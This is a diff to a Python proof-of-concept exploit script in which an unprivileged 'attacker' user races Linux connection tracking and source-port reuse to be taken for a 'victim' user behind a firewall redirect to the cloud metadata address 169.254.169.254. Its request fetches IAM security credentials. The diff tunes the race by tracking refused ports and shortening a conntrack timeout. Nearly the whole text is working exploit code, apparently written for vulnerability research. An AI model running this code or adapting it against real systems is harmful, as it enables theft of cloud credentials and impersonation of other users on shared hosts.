@@ -1,10 +1,12 @@
 """Tries to be taken for another user behind a redirection of 169.254.169.254:80, as an unprivileged user.
 
 Two sockets of one address and port may go to different places. If a firewall redirects one of them to where the other goes, the
-kernel gives it another source port, by chance that of somebody else's socket. Usage: attack.py PORT TRIES, in a network namespace with the
-redirection, as root, which only becomes the two users. Prints what became of it as JSON.
+kernel gives it another source port, by chance that of somebody else's socket. It is enough that connection tracking remembers the other
+one, even if it was refused. Usage: attack.py PORT TRIES, in a network namespace in which connections are redirected to PORT, as root,
+which only becomes the two users. Prints what became of it as JSON.
 """
 
+import errno
 import json
 import os
 import random
@@ -19,7 +21,7 @@ CAPTURED = ("169.254.169.254", 80)
 DIRECT = ("127.0.0.1", int(sys.argv[1]))
 TRIES = int(sys.argv[2])
 VICTIM, ATTACKER = 61001, 61002
-HELD, VICTIMS = 5000, 200
+DIRECTS, VICTIMS = 5000, 200
 IP_BIND_ADDRESS_NO_PORT, IP_LOCAL_PORT_RANGE = 24, 51
 REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
 
@@ -85,26 +87,33 @@ def victim(orders, say):
     first = count([ask(client) for client in clients])
     tell(say, {"ports": [client.getsockname()[1] for client in clients], "statuses": first})
     orders.readline()
-    tell(say, count([ask(client) for client in clients]))
+    again = [connect(CAPTURED) for _ in range(VICTIMS)]
+    tell(say, count([ask(client) for client in clients + again]))
 
 
 def attacker(orders, say):
     held = {}
-    refused = 0
-    for _ in range(HELD):
+    refused = []
+    ports = iter(random.sample(range(32768, 61000), 2 * DIRECTS))
+    while len(held) + len(refused) < DIRECTS:
+        port = next(ports)
         try:
-            client = connect(DIRECT)
-            held[client.getsockname()[1]] = client
+            held[port] = connect(DIRECT, port)
         except ConnectionRefusedError:
-            refused += 1
-    tell(say, {"held": len(held), "refused": refused})
+            refused.append(port)
+        except OSError as error:
+            # A listener of the daemon has this port.
+            if error.errno != errno.EADDRNOTAVAIL:
+                raise
+    tell(say, {"held": len(held), "refused": len(refused)})
     victims = json.loads(orders.readline())
-    common = [port for port in victims if port in held]
+    tried = [*held, *refused]
+    common = [port for port in victims if port in tried]
     for port in common:
-        reset(held.pop(port))
-    # The firewall forgets them (nf_conntrack_tcp_timeout_close).
+        if port in held:
+            reset(held.pop(port))
     time.sleep(2.5)
-    ports = list(held) or random.sample(range(20000, 30000), 5000)
+    ports = [port for port in tried if port not in common]
     statuses = []
     for number in range(TRIES):
         try:
@@ -121,17 +130,18 @@ def attacker(orders, say):
 
 
 def main():
-    with open("/proc/sys/net/netfilter/nf_conntrack_tcp_timeout_close", "w") as timeout:
-        timeout.write("1")
     attacker_order, attacker_said = become(ATTACKER, attacker)
-    held = json.loads(attacker_said.readline())
+    direct = json.loads(attacker_said.readline())
     victim_order, victim_said = become(VICTIM, victim)
     before = json.loads(victim_said.readline())
+    # From now on the attacker need not wait for long until the firewall forgets what was reset.
+    with open("/proc/sys/net/netfilter/nf_conntrack_tcp_timeout_close", "w") as timeout:
+        timeout.write("1")
     tell(attacker_order, before["ports"])
     attack = json.loads(attacker_said.readline())
     tell(victim_order, "again")
     after = json.loads(victim_said.readline())
-    print(json.dumps({"held": held, "victim": before["statuses"], "victim_after": after, **attack}))
+    print(json.dumps({"direct": direct, "victim": before["statuses"], "victim_after": after, **attack}))
 
 
 main()
